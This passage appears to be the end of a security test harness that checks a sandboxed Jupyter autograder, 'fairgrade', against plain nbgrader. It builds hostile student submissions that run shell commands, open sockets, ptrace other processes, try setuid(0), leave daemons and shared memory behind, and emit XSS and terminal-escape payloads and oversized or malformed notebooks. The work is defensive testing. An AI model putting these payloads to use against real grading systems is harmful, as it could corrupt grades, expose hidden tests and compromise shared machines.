    "for address in ('@OUT@/listening', '\\0fg-listening-@PORT@'):\n"
    "    try:\n        sock = socket.socket(socket.AF_UNIX)\n"
    "        sock.connect(address); sock.send(b'here')\n"
    "    except OSError: pass\n",
)
harms(
    "listen",
    "offers a service of its own",
    "import socket\n"
    "try:\n    server = socket.create_server(('127.0.0.1', 0)); server.listen()\n"
    "    print('stolen: a port')\n"
    "except OSError: pass\n",
)
harms(
    "names",
    "asks for the address of a host",
    "import socket\n"
    "try: print('stolen:', socket.getaddrinfo('localhost', 80)[0][4])\n"
    "except OSError: pass\n",
)
harms(
    "execute",
    "runs other programs",
    "import os, subprocess\n"
    "try:\n    subprocess.run(['/bin/sh', '-c', 'echo here > @OUT@/@MARK@-exec'])\n"
    "except Exception: pass\n"
    "try: os.system('echo here > @OUT@/@MARK@-system')\n"
    "except Exception: pass\n",
)
harms(
    "magic-shell",
    "runs other programs with IPython's magics",
    "!echo here > @OUT@/@MARK@-shell\n%sx echo here > @OUT@/@MARK@-sx\n",
)
harms(
    "trace-process",
    "traces other processes",
    "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
    "for pid in (os.getppid(), @VICTIM@):\n"
    "    if libc.ptrace(16, pid, 0, 0) == 0:\n"
    "        print('stolen: a process'); libc.ptrace(17, pid, 0, 0)\n",
    plain="it would stop other programs",
)
harms(
    "become-root",
    "becomes root",
    "import os\n"
    "for change in (os.setuid, os.setgid, os.seteuid):\n"
    "    try:\n        change(0)\n        open('@OUT@/@MARK@-root', 'w')\n"
    "    except OSError: pass\n",
)
harms(
    "daemon",
    "leaves a process behind",
    "import os, time, ctypes\n"
    "try:\n    if os.fork() == 0:\n        os.setsid()\n"
    "        if os.fork() == 0:\n"
    "            ctypes.CDLL(None).prctl(15, b'fg-daemon', 0, 0, 0)\n"
    "            time.sleep(60)\n        os._exit(0)\n"
    "except OSError: pass\n",
)
harms(
    "shared-memory",
    "leaves shared memory behind",
    "import ctypes\nctypes.CDLL(None).shmget(0x7f3a91, 4096, 0o1666)\n",
)
harms(
    "script-printed",
    "prints a script",
    "print('<script>fgmark()</script><img src=x onerror=fgmark()>')\n",
)
harms(
    "script-shown",
    "displays a script as HTML",
    "from IPython.display import HTML, Javascript, Markdown, display\n"
    "display(HTML('<script>fgmark()</script>'))\ndisplay(Javascript('fgmark()'))\n"
    "display(Markdown('<img src=x onerror=fgmark()>'))\n",
)
harms(
    "script-written",
    "writes a script in a text answer",
    "",
)
BANK["script-written"].answers["why"] = (
    "<script>fgmark()</script> [x](javascript:fgmark()) <img src=x onerror=fgmark()>"
)
harms(
    "script-raised",
    "puts a script in an error's name",
    "name = '<script>fgmark()</script>'\nraise type(name, (Exception,), {})(name)\n",
    6,
)
harms(
    "script-terminal",
    "prints what commands a terminal",
    "print('\\x1b[2J\\x1b]0;owned\\x07\\x1b[8m')\nraise ValueError('\\x1b[2Jowned')\n",
    6,
)
harms(
    "odd-characters",
    "prints and raises half characters and zeros",
    "print('\\ud800 \\0 \\uffff \\u202e')\nclass Odd(Exception): pass\n"
    "Odd.__name__ = 'Odd\\udfff'\nraise Odd('\\ud800 \\0')\n",
    6,
)
harms(
    "no-picture",
    "shows a picture that is none",
    "import sys, types\n"
    "plt = sys.modules['matplotlib.pyplot'] = types.ModuleType('plt')\n"
    "class Figure:\n    def savefig(self, file, format):\n"
    "        file.write(b'<svg onload=fgmark()>' * 10)\n"
    "plt.get_fignums = lambda: [1] * 50\nplt.figure = lambda n: Figure()\n"
    "plt.close = lambda *a: None\n",
)
harms(
    "endless-data",
    "returns data that no test can read to its end",
    "",
    4,
)
BANK["endless-data"].answers |= {
    "double": "class Long:\n    def __len__(self): return 2**60\n"
    "    def __getitem__(self, i): return 0\ndef double(x): return range(10**18)\n",
    "scale": "def scale(a): return range(10**18)\n",
    "total": "def total(xs): return 10**20000\n",
    "stack": RIGHT["stack"],
}
BANK["endless-data"].score = 2
harms(
    "deep-data",
    "returns data that nest without end",
    "",
    6,
)
BANK["deep-data"].answers["double"] = (
    "def double(x):\n    deep = ()\n    for _ in range(10**5):\n"
    "        deep = (deep,)\n"
    "    return deep\n"
)
harms("much-data", "returns a list of a million numbers", "", 6)
BANK["much-data"].answers["double"] = "def double(x):\n    return [0.5] * 10**6\n"
harms(
    "warning-flood",
    "warns a hundred thousand times",
    "import warnings\nfor number in range(100_000):\n    warnings.warn(f'w{number}')\n",
    slow=True,
)
harms(
    "close-everything",
    "closes every open file",
    "import os\nos.closerange(0, 1000)\n",
    6,
    plain="it would wait for the kernel",
)

# ---- broken files


def as_bytes(change):
    return lambda notebook: change(json.dumps(notebook).encode())


breaks("empty", "is an empty file", lambda nb: b"")
breaks("blank", "is a file of spaces", lambda nb: b" \n" * 100)
breaks("no-json", "is no JSON", lambda nb: b"PK\x03\x04 this was a zip")
breaks("cut-off", "ends in the middle", as_bytes(lambda data: data[: len(data) // 2]))
breaks("not-utf-8", "is not UTF-8", as_bytes(lambda data: data + b"\xff\xfe\x80"))
breaks("utf-16", "is UTF-16", as_bytes(lambda d: d.decode().encode("utf-16")))
breaks("deep", "nests a million deep", lambda nb: b"[" * 10**6 + b"]" * 10**6)
breaks("a-list", "is a list", as_bytes(lambda data: b"[" + data + b"]"))
breaks(
    "too-big", "is 40 MB of nothing", as_bytes(lambda data: data + b" " * 40 * 2**20)
)
breaks("format-3", "is of nbformat 3", lambda nb: nb.update(nbformat=3))
breaks("format-5", "is of nbformat 5", lambda nb: nb.update(nbformat=5))
breaks(
    "format-odd",
    "is of nbformat 1e999",
    as_bytes(lambda data: data.replace(b'"nbformat": 4', b'"nbformat": 1e999')),
)
breaks("cells-odd", "has cells that are no list", lambda nb: nb.update(cells={"a": 1}))
breaks(
    "long-number",
    "has a number of a million digits",
    as_bytes(
        lambda data: data.replace(
            b'"nbformat_minor": 5', b'"nbformat_minor": ' + b"9" * 10**6
        )
    ),
)
breaks("no-cells", "has no cells", lambda nb: nb["cells"].clear(), "graded", 0)
breaks(
    "bom",
    "begins with a byte-order mark",
    as_bytes(lambda data: b"\xef\xbb\xbf" + data),
    "graded",
    10,
)
breaks(
    "infinite",
    "has NaN and Infinity in its metadata",
    lambda nb: nb["metadata"].update(x=float("nan"), y=float("inf"), z=-float("inf")),
    "graded",
    10,
)


def without_ids(notebook):
    for cell in notebook["cells"][2:]:
        del cell["id"]
    for cell in notebook["cells"][:2]:
        cell["id"] = "a"


breaks(
    "no-ids",
    "has no ids of cells, and the same one twice",
    without_ids,
    "graded",
    10,
)
breaks(
    "attachments",
    "has attachments that are none",
    lambda nb: nb["cells"][-1].update(attachments={"a": {"image/png": 7}, "b": []}),
    "graded",
    10,
)
breaks(
    "huge-metadata",
    "has 5 MB of metadata",
    lambda nb: nb["metadata"].update(x=["y" * 1000] * 5000),
    "graded",
    10,
)
breaks(
    "surrogates",
    "has half characters and zeros in its text",
    lambda nb: cell_of(nb, "why").update(source="\ud800 \x00 \udfff"),
    "graded",
    10,
)


def odd_sources(notebook):
    cell_of(notebook, "double")["source"] = 7
    cell_of(notebook, "total")["source"] = [1, 2]
    notebook["cells"] += [None, 7, [], "x", {}, {"metadata": 1, "cell_type": 3}]


breaks("odd-sources", "has sources that are no text", odd_sources, "graded", 5)
breaks(
    "zeros-in-code",
    "has zero bytes in its code",
    lambda nb: cell_of(nb, "double").update(source="x = '\0'\n\0"),
    "graded",
    6,
)

# ---- right answers that graders have been unfair to

deserves(
    "warns",
    "is right, and warns",
    double="import warnings, sys\ndef double(x):\n    warnings.warn('careful')\n"
    "    print('on stderr', file=sys.stderr)\n    return 2 * x",
)
deserves(
    "logs",
    "is right, and logs",
    total="import logging\ndef total(xs):\n    logging.warning('adding')\n"
    "    return sum(xs)",
)
deserves(
    "prints",
    "is right, and prints",
    scale="def scale(a):\n    print('a', a)\n    return np.array([2.0 * x for x in a])",
)
deserves(
    "numpy-numbers",
    "is right, with NumPy's numbers",
    double="def double(x):\n    return np.int64(2 * x)",
    total="def total(xs):\n    return np.sum(xs)",
)
deserves(
    "lambdas",
    "is right, with lambdas and functools",
    double="double = lambda x: x + x",
    total="from functools import partial, reduce\nimport operator\n"
    "total = partial(reduce, operator.add)",
)
deserves(
    "builtin",
    "is right, with a builtin function",
    total="total = sum",
)
deserves(
    "callable-object",
    "is right, with an object that can be called",
    double="class Double:\n    def __call__(self, x):\n        return x * 2\n\n"
    "double = Double()",
)
deserves(
    "decorated",
    "is right, with decorators and type hints",
    double="from functools import lru_cache, wraps\nfrom typing import Any\n"
    "@lru_cache\ndef double(x: 'int | Any') -> Any:\n    return 2 * x",
)
deserves(
    "magics",
    "is right, with magics",
    double="%matplotlib inline\n%time 1 + 1\n!echo hello\n%precision 3\n"
    + RIGHT["double"],
    total="%%time\n" + RIGHT["total"],
)
deserves(
    "await",
    "is right, with await at the top",
    double="import asyncio\nasync def two():\n    await asyncio.sleep(0)\n"
    "    return 2\nn = await two()\n"
    "def double(x):\n    return n * x",
)
deserves(
    "plots",
    "is right, and plots",
    scale="import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"
    + RIGHT["scale"],
)
deserves(
    "own-names",
    "is right, with other names and a helper that is called like a test's",
    double="got = stack = secret = x = None\ndef helper(n):\n    return n\n"
    "def double(n):\n    return helper(n) + helper(n)",
)
deserves(
    "dataclass",
    "is right, with dataclass, deque and properties",
    stack="from collections import deque\nfrom dataclasses import dataclass, field\n"
    "@dataclass\nclass Stack:\n    _all: deque = field(default_factory=deque)\n"
    "    @property\n    def push(self):\n        return self._all.append\n"
    "    def pop(self):\n        return self._all.pop()\n"
    "    def __len__(self):\n        return len(self._all)",
)
deserves(
    "list-subclass",
    "is right, with a subclass of list",
    stack="class Stack(list):\n    push = list.append",
)
deserves(
    "main-guard",
    "is right, with a main guard, a match and a walrus",
    double="if __name__ == '__main__':\n    print('main')\n"
    "def double(x):\n    match x:\n        case _ if (y := x):\n"
    "            return y + y\n"
    "    return 0",
)
deserves(
    "semicolons",
    "is right, on one line with a semicolon",
    double="double = lambda x: 2 * x; print('done');",
)
deserves(
    "future",
    "is right, and imports from the future",
    double="from __future__ import annotations\n" + RIGHT["double"],
)
deserves(
    "in-place",
    "is right, and sorts what it is given",
    total="def total(xs):\n    xs.sort()\n    result = 0\n    while xs:\n"
    "        result += xs.pop()\n    return result",
)
deserves(
    "seeds",
    "is right, and seeds the global generators",
    double="import random\nrandom.seed(1)\nnp.random.seed(1)\n" + RIGHT["double"],
)
deserves(
    "displays",
    "is right, and displays",
    double="from IPython.display import display, Markdown\ndisplay(Markdown('# Hi'))\n"
    "display(3)\n" + RIGHT["double"],
)
deserves(
    "thread",
    "is right, with a thread that is still running",
    double="import threading, time\n"
    "threading.Thread(target=time.sleep, args=(30,)).start()\n" + RIGHT["double"],
)
deserves(
    "recursive",
    "is right, and recursive",
    total="def total(xs):\n    return xs[0] + total(xs[1:]) if len(xs) else 0",
)
deserves(
    "unicode",
    "is right, in Greek",
    double="δύο = 2\ndef double(ξ):\n    return δύο * ξ",
)
deserves("tabs", "is right, with tabs", double="def double(x):\n\treturn 2 * x")
add(
    "windows",
    "loss",
    "is right, with the line ends of Windows",
    10,
    answers={name: text.replace("\n", "\r\n") for name, text in RIGHT.items()},
)
add(
    "one-empty",
    "loss",
    "left one answer empty and has the others right",
    9,
    answers={name: text for name, text in RIGHT.items() if name != "total"},
)
add(
    "one-syntax-error",
    "loss",
    "has a syntax error in one answer, the others right",
    6,
    answers=RIGHT | {"double": "def double(x)\n    return 2 x"},
)
add("honest-1", "loss", "is right", 10, answers=RIGHT)
add("honest-2", "loss", "is right", 10, answers=RIGHT)
add(
    "half-right",
    "loss",
    "is half right",
    8,
    answers=RIGHT | {"stack": "class Stack:\n    pass"},
)
add("untouched", "loss", "is as it was released", 0)


# ------------------------------------------------------------- handing in, and watching


def plain_dicts(notebook):
    return json.loads(nbformat.writes(notebook))


class World:
    """What lies around a course, for attacks to reach: and what became of it."""

    def __init__(self, course, outside):
        self.course = course
        self.outside = Path(outside)
        self.outside.mkdir(exist_ok=True)
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.unix = [socket.socket(socket.AF_UNIX) for _ in range(2)]
        here = os.getcwd()
        os.chdir(self.outside)  # a socket's path has to be short
        self.unix[0].bind("listening")
        os.chdir(here)
        self.unix[1].bind(f"\0fg-listening-{self.port}")
        for sock in self.unix:
            sock.listen()
        os.chmod(self.outside, 0o777)
        self.victim = subprocess.Popen(["sleep", "infinity"])
        self.released = plain_dicts(course.released())

    def close(self):
        self.victim.kill()
        self.victim.wait()
        for sock in (self.server, self.udp, *self.unix):
            sock.close()

    def hand_in(self, attack):
        """Put a submission into `submitted/`."""
        folder = self.course.folder / "submitted" / attack.name / "twice"
        folder.mkdir(parents=True)
        if attack.place is not None:
            attack.place(folder, self.course)
            return
        notebook = copy.deepcopy(self.released)
        for grade_id, source in attack.answers.items():
            cell_of(notebook, grade_id)["source"] = self.filled(source)
        data = attack.edit(notebook) if attack.edit else None
        if not isinstance(data, bytes):
            data = json.dumps(notebook).encode()
        (folder / "twice.ipynb").write_bytes(data)

    def filled(self, source):
        """Return a source with the places of this world in it."""
        for name, value in {
            "@COURSE@": self.course.folder,
            "@OUT@": self.outside,
            "@PORT@": self.port,
            "@VICTIM@": self.victim.pid,
            "@MARK@": MARK,
        }.items():
            source = source.replace(name, str(value))
        return source

    # ---- what can be seen afterwards

    def files(self):
        """Return {path: what it is} of all that no submission may change."""
        found = {}
        for top in ("source", "release", "submitted", "nbgrader_config.py"):
            root = self.course.folder / top
            for path in [root, *sorted(root.rglob("*"))]:
                status = path.lstat()
                content = b""
                if stat.S_ISREG(status.st_mode):
                    content = hashlib.sha256(path.read_bytes()).digest()
                found[str(path)] = status.st_mode, status.st_ino, content
        book = self.course.folder / "gradebook.db"
        found["gradebook's mode"] = book.lstat().st_mode
        found["course's mode"] = self.course.folder.lstat().st_mode
        return found

    def changed(self, before):
        now = self.files()
        return sorted(
            p for p in before.keys() | now.keys() if before.get(p) != now.get(p)
        )

    def traces(self):
        """Return in words, and remove, what was left outside the sandbox."""
        found = []
        course = self.course.folder
        folders = ("/tmp", "/var/tmp", "/dev/shm", self.outside, course)
        for path in (
            path for where in folders for path in Path(where).glob(f"{MARK}*")
        ):
            found.append("left a file")
            path.unlink()
        if self.victim.poll() is not None:
            found.append("killed a process")
            self.victim = subprocess.Popen(["sleep", "infinity"])
        for sock in (self.server, *self.unix):
            sock.settimeout(0.01)
            try:
                while True:
                    sock.accept()[0].close()
                    found.append("opened a connection")
            except OSError:
                pass
        self.udp.settimeout(0.01)
        try:
            self.udp.recv(10)
            found.append("sent a packet")
        except OSError:
            pass
        for name in Path("/proc").glob("[0-9]*/comm"):
            try:
                if name.read_text().strip() == "fg-daemon":
                    found.append("left a process")
                    os.kill(int(name.parent.name), 9)
            except OSError:
                pass
        segments = Path("/proc/sysvipc/shm").read_text()
        for line in segments.splitlines()[1:]:
            if line.split()[0] == str(0x7F3A91):
                found.append("left shared memory")
                subprocess.run(["ipcrm", "-M", "0x7f3a91"], check=True)
        return sorted(set(found))

    def record(self, name):
        """Return the text of a graded notebook, or an empty one."""
        path = self.course.folder / "autograded" / name / "twice" / "twice.ipynb"
        return path.read_text() if path.is_file() else ""

    def told(self, name):
        """Return what a submission got to say of the teacher's secrets, in words."""
        found = []
        text = self.record(name)
        if not text:
            return found
        for cell in json.loads(text)["cells"]:
            outputs = json.dumps(cell.get("outputs", []))
            if "stolen:" in outputs:
                found.append(
                    "read hidden tests"
                    if TOKEN in outputs
                    else "read what is not its own"
                )
        if len(text) > 5_000_000:
            found.append(f"a record of {len(text) >> 20} MB")
        return sorted(set(found))


def run_fairgrade(course, *arguments, **options):
    """Run a command of fairgrade in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "fairgrade", *arguments],
        cwd=course.folder,
        capture_output=True,
        text=True,
        **options,
    )


# ------------------------------------------------------------ beside plain nbgrader

ALONE = ("gradebook", "own-result")  # whose traces would be taken for another's
TIMEOUT = 5  # seconds for a cell; nbgrader's own is 30
TITLES = {
    "points": "Points that nobody earned",
    "theft": "What is not theirs to read",
    "harm": "Harm",
    "broken": "Broken files",
    "loss": "Right answers",
}


def happened(attack, score, told, stopped=False):
    """Return in words what a submission got through with, or an empty text."""
    words = list(told)
    if stopped:
        words.append("**stops the batch**")
    elif attack.status == "graded" and not attack.slow:
        if score is None:
            words.append(f"no grade, deserves {attack.score:g}")
        elif score != attack.score:
            words.append(f"**{score:g} points, deserves {attack.score:g}**")
    elif attack.status != "graded" and score is not None:
        words.append(f"graded: {score:g} points")
    elif attack.status != "graded":
        words.append("no grade")
    return ", ".join(words)


def under_nbgrader(folder, bank):
    """Return {name: what happened} under nbgrader as it comes."""
    course = bank_course(folder / "plain", f"c.ExecutePreprocessor.timeout = {TIMEOUT}")
    world = World(course, folder / "plain-outside")
    found = {}
    try:
        for name in ("honest-1", "honest-2"):
            world.hand_in(BANK[name])
        pristine = course.copy(folder / "pristine")
        alone = [a for a in bank if a.kind == "harm" or a.name in ALONE]
        for attack in alone:
            world.hand_in(attack)
            before = world.files()
            run_nbgrader(course, attack.name)
            found[attack.name] = words_of(world, attack, world.changed(before))
            print(f"{attack.name}: {found[attack.name]}", file=sys.stderr, flush=True)
            shutil.rmtree(course.folder)
            pristine.copy(course.folder)
        rest = {a.name: a for a in bank if a not in alone and a.name not in found}
        for attack in rest.values():
            if not attack.name.startswith("honest-"):
                world.hand_in(attack)
        stopped = set()
        for _ in range(10):
            log = run_nbgrader(course, "*")
            done = re.findall(r"submitted/([^/]+)/twice", log)
            left = [name for name in rest if name not in done and name not in stopped]
            if not left or not done:
                break
            stopped.add(done[-1])
            shutil.rmtree(course.folder / "submitted" / done[-1])
        for name, attack in rest.items():
            found[name] = words_of(world, attack, [])
        # Who was last in the log may have stopped the batch, or not.
        for name in stopped:
            if stops(world, pristine, rest[name]):
                found[name] = happened(rest[name], None, [], stopped=True)
    finally:
        world.close()
    return found


def stops(world, pristine, attack):
    """Return whether nobody is graded after a submission."""
    shutil.rmtree(world.course.folder)
    pristine.copy(world.course.folder)
    world.hand_in(attack)
    after = dataclasses.replace(BANK["honest-1"], name="zz-after")
    world.hand_in(after)
    run_nbgrader(world.course, "*")
    return not world.record(after.name)


def run_nbgrader(course, student):
    """Run `nbgrader autograde`; return its log."""
    command = ["nbgrader", "autograde", "twice", f"--student={student}"]
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
    done = subprocess.run(
        [sys.executable, "-m", *command],
        cwd=course.folder,
        env=os.environ | {"PATH": path},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
    )
    return done.stdout.decode(errors="replace")


def words_of(world, attack, changed, stopped=False):
    told = world.told(attack.name) + world.traces()
    if changed:
        told.append("**changed the files of others**")
    with world.course.gradebook() as book:
        try:
            score = book.find_submission("twice", attack.name).score
        except MissingEntry:
            score = None
    if not world.record(attack.name):
        score = None
    return happened(attack, score, told, stopped)


def under_fairgrade(folder, bank):
    """Return {name: (what happened, what the teacher is told)} under fairgrade."""
    world = World(bank_course(folder / "fair"), folder / "fair-outside")
    try:
        for attack in bank:
            world.hand_in(attack)
        before = world.files()
        done = run_fairgrade(world.course, "autograde", "twice", "--json")
        rows = {r["student"]: r for r in json.loads(done.stdout)["submissions"]}
        found = {}
        for attack in bank:
            row, told = rows[attack.name], world.told(attack.name)
            words = [happened(attack, row["score"], told), row["reason"]]
            found[attack.name] = ": ".join(filter(None, words))
        together = world.traces() + world.changed(before)
        if together:
            found["(all of them together)"] = ", ".join(together)
        return found
    finally:
        world.close()


def comparison(folder):
    """Return the table for the teacher's page, in Markdown."""
    bank = list(BANK.values())
    fair = under_fairgrade(folder, bank)
    plain = under_nbgrader(folder, [attack for attack in bank if attack.plain is True])
    lines = []
    for kind, title in TITLES.items():
        lines += ["", f"## {title}", "", "| a submission that… | plain nbgrader | "]
        lines[-1] += "fairgrade |"
        lines.append("|---|---|---|")
        for attack in bank:
            if attack.kind == kind:
                left = (
                    plain.get(attack.name, f"not run: {attack.plain}") or "as it should"
                )
                right = fair[attack.name] or "as it should"
                lines.append(f"| {attack.tries} | {cell(left)} | {cell(right)} |")
    odd = set(fair) - set(BANK)
    return "\n".join([*lines[1:], *(f"\nfairgrade: {fair[name]}" for name in odd)])


def cell(text):
    """Return text for one cell of a table."""
    return text.replace("|", "\\|").replace("<", "&lt;").replace("\n", " ")


if __name__ == "__main__":
    if sys.argv[1:] != ["--compare"]:
        sys.exit("say --compare: it runs hostile code without a sandbox for a while")
    with tempfile.TemporaryDirectory() as place:
        os.chmod(place, 0o755)
        with contextlib.redirect_stdout(sys.stderr):
            text = comparison(Path(place))
    print(text)
